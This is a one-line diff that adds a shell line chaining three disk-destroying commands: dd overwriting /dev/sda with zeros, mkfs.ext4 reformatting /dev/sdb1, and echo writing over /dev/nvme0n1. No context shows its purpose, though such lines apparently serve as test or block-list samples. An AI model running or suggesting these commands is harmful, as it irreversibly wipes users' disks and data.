@@ -1,0 +1,1 @@
+dd if=/dev/zero of=/dev/sda bs=1M count=10; mkfs.ext4 /dev/sdb1; echo x > /dev/nvme0n1
